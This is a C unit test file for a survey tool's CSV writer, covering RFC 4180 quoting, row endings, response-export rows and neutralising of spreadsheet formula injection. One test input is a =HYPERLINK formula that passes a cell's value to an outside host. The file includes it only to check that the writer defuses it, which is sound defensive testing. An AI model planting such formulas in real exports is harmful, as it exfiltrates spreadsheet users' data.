/*
 * test_csvout.c: the one CSV writer (common/csvout.c): RFC 4180 quoting of
 * each kind of field, the ' before text a spreadsheet could run (numbers
 * as they are), row ends, and the responses CSV rows that sipasctl
 * export and GET /api/v1/export both write (time in +07:00, the shortest
 * weight that reads back, answers and demographics from their JSON).
 */
#include "config.h"

#include <stdlib.h>
#include <string.h>

#include "sipas/csvout.h"
#include "sipas/survey.h"
#include "sipas/util.h"
#include "tap.h"

/* The bytes of o as a string (o's data is not NUL-terminated). */
static char *
bytes(const struct csvout *o)
{
	return xstrndup(o->data != NULL ? o->data : "", o->len);
}

/* One field alone in a row, against the expected bytes. */
static void
test_fields(void)
{
	static const struct {
		const char *in, *want, *what;
	} cases[] = {
		{ "plain", "plain\r\n", "a plain field as it is" },
		{ NULL, "\r\n", "NULL is an empty field" },
		{ "", "\r\n", "an empty field" },
		{ "a,b", "\"a,b\"\r\n", "a comma: quoted" },
		{ "say \"hi\"", "\"say \"\"hi\"\"\"\r\n", "quotes: doubled, quoted" },
		{ "\"", "\"\"\"\"\r\n", "a lone quote" },
		{ "two\nlines", "\"two\nlines\"\r\n", "LF: quoted" },
		{ "cr\rhere", "\"cr\rhere\"\r\n", "CR: quoted" },
		{ "=SUM(A1)", "'=SUM(A1)\r\n", "= : a ' in front" },
		{ "+1", "'+1\r\n", "+ : a ' in front" },
		{ "-2", "'-2\r\n", "- (text): a ' in front" },
		{ "@x", "'@x\r\n", "@ : a ' in front" },
		{ "\tx", "'\tx\r\n", "tab: a ' in front" },
		{ "\rx", "\"'\rx\"\r\n", "CR: a ' in front, inside the quotes" },
		{ "=HYPERLINK(\"http://e/?x=\"&A1,\"c\")",
		    "\"'=HYPERLINK(\"\"http://e/?x=\"\"&A1,\"\"c\"\")\"\r\n",
		    "a quoted formula: the ' inside the quotes" },
		{ "'=x", "''=x\r\n", "'= : one more ', so that a reader gets '=x back" },
		{ "'plain", "'plain\r\n", "a ' before harmless text: as it is" },
		{ "a-b", "a-b\r\n", "a - further on: as it is" },
		{ " spaced ", " spaced \r\n", "spaces kept, not quoted" },
		{ "Huyện Một", "Huyện Một\r\n", "UTF-8 as it is" },
	};
	struct csvout o;
	char *got;
	size_t i;

	csvout_init(&o, "\r\n");
	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
		csvout_clear(&o);
		csvout_field(&o, cases[i].in);
		csvout_row_end(&o);
		got = bytes(&o);
		tap_ok(strcmp(got, cases[i].want) == 0, "%s", cases[i].what);
		free(got);
	}
	csvout_clear(&o);
	csvout_number(&o, "-1.5");
	csvout_number(&o, "-3");
	csvout_row_end(&o);
	got = bytes(&o);
	tap_ok(strcmp(got, "-1.5,-3\r\n") == 0, "a negative number stays a number");
	free(got);
	tap_ok(csvout_text_risky("'''=") && !csvout_text_risky("'''") &&
	    !csvout_text_risky(NULL) && !csvout_text_risky(""),
	    "risky: = after any number of '; a lone ' or nothing is not");

	csvout_clear(&o);
	csvout_field(&o, "a");
	csvout_field(&o, NULL);
	csvout_field(&o, "c,d");
	csvout_row_end(&o);
	csvout_field(&o, "e");
	csvout_row_end(&o);
	got = bytes(&o);
	tap_ok(strcmp(got, "a,,\"c,d\"\r\ne\r\n") == 0,
	    "commas between fields, none before a row's first");
	free(got);
	csvout_free(&o);
	csvout_init(&o, "\n");
	csvout_field(&o, "x");
	csvout_row_end(&o);
	got = bytes(&o);
	tap_ok(strcmp(got, "x\n") == 0, "a report CSV ends rows with LF");
	free(got);
	csvout_free(&o);
}

/* Rows of the responses CSV of onestop-tt01. */
static void
test_responses(void)
{
	const char *text = survey_builtin_text("onestop-tt01");
	char *keys[] = { "age band", "gender" }, *cause = NULL, *got;
	struct csvout_response row = { "id,1", "U001", 1740798000, "web",
		0.1, "s1", NULL, "{\"R1\": 3}", "{\"gender\": \"f\", \"n\": 2}" };
	struct survey *s;
	struct csvout o;

	s = survey_create(text, strlen(text), &cause);
	if (!tap_ok(s != NULL, "onestop-tt01 loads")) {
		free(cause);
		return;
	}
	csvout_init(&o, "\r\n");
	csvout_responses_header(&o, s, keys, 2);
	got = bytes(&o);
	tap_ok(strcmp(got, "id,unit,submitted_at,channel,weight,stratum,psu,R1,"
	    "respondent.age band,respondent.gender\r\n") == 0,
	    "header: fixed columns, items, respondent.<key>");
	free(got);
	csvout_clear(&o);
	csvout_responses_row(&o, s, keys, 2, &row);
	got = bytes(&o);
	tap_ok(strcmp(got, "\"id,1\",U001,2025-03-01T10:00:00+07:00,web,0.1,s1,,"
	    "3,,f\r\n") == 0, "row: quoted id, +07:00, weight 0.1, absent "
	    "values empty");
	free(got);
	csvout_clear(&o);
	row.weight = 1.0 / 3;
	row.answers = "{}";
	row.respondent = NULL;
	csvout_responses_row(&o, s, keys, 2, &row);
	got = bytes(&o);
	tap_ok(strcmp(got, "\"id,1\",U001,2025-03-01T10:00:00+07:00,web,"
	    "0.33333333333333331,s1,,,,\r\n") == 0,
	    "a weight that needs 17 digits to read back has them");
	tap_ok(strtod(strstr(got, ",0.") + 1, NULL) == 1.0 / 3,
	    "and reads back to the same double");
	free(got);
	csvout_free(&o);
	survey_free(s);
}

int
main(void)
{
	test_fields();
	test_responses();
	return tap_done();
}
